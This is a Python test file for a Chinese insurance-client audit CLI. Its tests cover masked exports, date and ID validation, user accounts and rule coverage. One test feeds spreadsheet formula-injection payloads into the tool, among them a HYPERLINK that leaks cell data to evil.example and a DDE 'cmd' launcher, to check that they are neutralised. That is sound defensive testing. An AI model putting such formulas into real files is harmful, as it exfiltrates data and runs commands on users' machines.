"""The command line: Chinese output, no tracebacks, row/column in import reports."""
import pandas as pd
import pytest

from clientkit import service
from clientkit.cli import main
from clientkit.model.schema import TABLES
from clientkit.reports.checkup import labels
from clientkit.store import Store


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("CLIENTKIT_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("CLIENTKIT_DB_URL", raising=False)
    return tmp_path


def test_generate_then_audit_finds_the_planted_defects(home, capsys):
    out = home / "book"
    assert main(["generate", "60", "--seed", "3", "--defect-rate", "0.2", "--out", str(out)]) == 0
    planted = pd.read_csv(out / "defects.csv")
    assert main(["audit", str(out), "--out", str(home / "f.csv")]) == 0
    text = capsys.readouterr().out
    assert f"共发现 {len(planted)} 处不符合规则" in text
    findings = pd.read_csv(home / "f.csv", encoding="utf-8-sig", dtype=str)
    # the file speaks Chinese as 档案体检's export does: headers, table and field names, rule text
    assert list(findings.columns) == ["规则", "规则内容", "客户编号", "数据表", "字段", "值（已脱敏）", "问题"]
    named = {labels(tb, c.name): c.name for tb, schema in TABLES.items() for c in schema.columns}
    fields = [named[(a, b)] for a, b in zip(findings["数据表"], findings["字段"])]
    assert set(zip(findings["规则"], findings["客户编号"], fields)) == set(
        zip(planted.rule_id, planted.client_id, planted.field))
    assert not findings["字段"].isin(planted.field).any() and findings["规则内容"].str.len().min() > 4
    # exports carry masked values only: no full 18-character ID number in the file
    assert not findings["值（已脱敏）"].astype(str).str.fullmatch(r"\d{17}[\dX]").any()
    # .xlsx: the whole 档案体检 workbook
    assert main(["audit", str(out), "--out", str(home / "f.xlsx")]) == 0
    sheets = pd.read_excel(home / "f.xlsx", sheet_name=None, dtype=str)
    assert list(sheets) == ["检查结果", "按规则汇总", "未检查的规则", "无法识别的单元格"]
    assert len(sheets["检查结果"]) == len(planted)
    assert sheets["按规则汇总"]["规则"].tolist() == sorted(planted.rule_id.unique())


def test_audit_of_a_broken_gbk_list_reports_rows_and_columns(home, capsys):
    csv = home / "list.csv"
    csv.write_bytes(
        "客户编号,客户类型,姓名,出生日期,证件类型,证件号码\nC1,个人,张三,1980-02-30,居民身份证,110105198002300010\nC2,个人,李四,1990-01-01,居民身份证,110105199001010011\n".encode("gbk")
    )
    assert main(["audit", str(csv), "--on", "2026-06-30"]) == 0
    text = capsys.readouterr().out
    assert "第 2 行「出生日期」的值“1980******”：不是有效日期" in text  # personal data partly hidden
    assert "C1-08" in text  # the malformed ID number is found by the rules, the row is kept


def test_errors_are_chinese_without_traceback(home, capsys):
    assert main(["audit", str(home / "missing.csv")]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.strip()


def test_users_add_and_list_and_demo_users_once(home, capsys):
    created = service.prepare_instance()
    assert {u for u, _, _ in created} == {"demo_agent", "demo_supervisor"}
    assert all(len(pw) >= 10 for _, _, pw in created)
    assert service.prepare_instance() == []  # passwords are shown only on the first run
    assert main(["users", "add", "zhang", "--role", "agent", "--team", "一组", "--password", "pw-zhang-1"]) == 0
    assert main(["users", "list"]) == 0
    out = capsys.readouterr().out
    assert "已添加账号 zhang" in out and "zhang\tagent\t一组" in out
    store = Store.open()
    assert store.verify_password("demo_agent", dict((u, p) for u, _, p in created)["demo_agent"]).role == "agent"
    assert main(["users", "add", "zhang", "--role", "agent", "--password", "x-another-1"]) == 1


def test_audit_out_goes_through_the_export_module_and_neutralises_formulas(home, capsys):
    import csv as csvmod
    import io

    payloads = ['=HYPERLINK("http://evil.example/?leak="&A2,"点这里")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                "\n=1+1", "x;=1+1", "＝1+1"]
    lines = ["客户编号,客户类型,姓名,出生日期,证件类型,证件号码"]
    lines += [f'"{p.replace(chr(34), chr(34) * 2)}",个人,张三,1980-02-30,居民身份证,110105198002300010'
              for p in payloads]
    src = home / "inject.csv"
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = home / "findings.csv"
    assert main(["audit", str(src), "--on", "2026-06-30", "--out", str(out)]) == 0
    raw = out.read_bytes().decode("utf-8-sig")
    rows = list(csvmod.reader(io.StringIO(raw, newline="")))
    cells = [c for r in rows for c in r]
    assert len(rows) > len(payloads)  # every client has findings
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]
    assert "'=HYPERLINK" in raw and '"x;=1+1"' in raw


def test_audit_of_a_client_list_alone_runs_only_rules_it_can_judge(home, capsys):
    """Issue 10: a client list alone used to fire consent and policy rules (208 findings for 58
    defects). Now only rules whose tables (``needs``) are all present run; the others are listed
    as 未检查（缺少 … 表）, and the findings are exactly the planted defects of clients-only rules."""
    from clientkit.rules.registry import rule

    out = home / "book"
    assert main(["generate", "60", "--seed", "3", "--defect-rate", "0.2", "--out", str(out)]) == 0
    capsys.readouterr()
    planted = pd.read_csv(out / "defects.csv")
    judged = planted[[set(rule(r).needs) <= {"clients"} for r in planted["rule_id"]]]
    assert 0 < len(judged) < len(planted)
    assert main(["audit", str(out / "clients.csv"), "--date", "2026-06-30", "--out", str(home / "f.csv")]) == 0
    text = capsys.readouterr().out
    assert text.startswith("检查日期：2026-06-30\n")
    assert f"共发现 {len(judged)} 处不符合规则" in text
    assert "C1-20 敏感个人信息须单独同意：未检查（缺少授权同意表）" in text
    findings = pd.read_csv(home / "f.csv", encoding="utf-8-sig", dtype=str)
    assert set(zip(findings["规则"], findings["客户编号"])) == set(zip(judged.rule_id, judged.client_id))


def test_audit_without_a_date_says_it_used_today(home, capsys):
    from datetime import date

    src = home / "list.csv"
    src.write_text("客户编号,客户类型,姓名,证件类型,证件号码\nC1,个人,张三,居民身份证,11010519491231002X\n", encoding="utf-8")
    assert main(["audit", str(src)]) == 0
    text = capsys.readouterr().out
    assert f"检查日期：{date.today().isoformat()}（未指定 --date，默认今天）" in text
    assert "未检查（缺少" in text


def test_audit_of_a_zipped_export_checks_consents(home, capsys):
    import zipfile

    out = home / "book"
    assert main(["generate", "40", "--seed", "5", "--out", str(out)]) == 0
    archive = home / "export.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for name in ("clients.csv", "consents.csv"):
            z.write(out / name, name)
    capsys.readouterr()
    assert main(["audit", str(archive), "--date", "2026-06-30"]) == 0
    text = capsys.readouterr().out
    assert "C1-20 敏感个人信息须单独同意：未检查" not in text     # consents were uploaded
    assert "缺少授权同意" not in text and "C1-03 投保人、被保险人、受益人的最低信息：未检查（缺少保单、受益人表）" in text
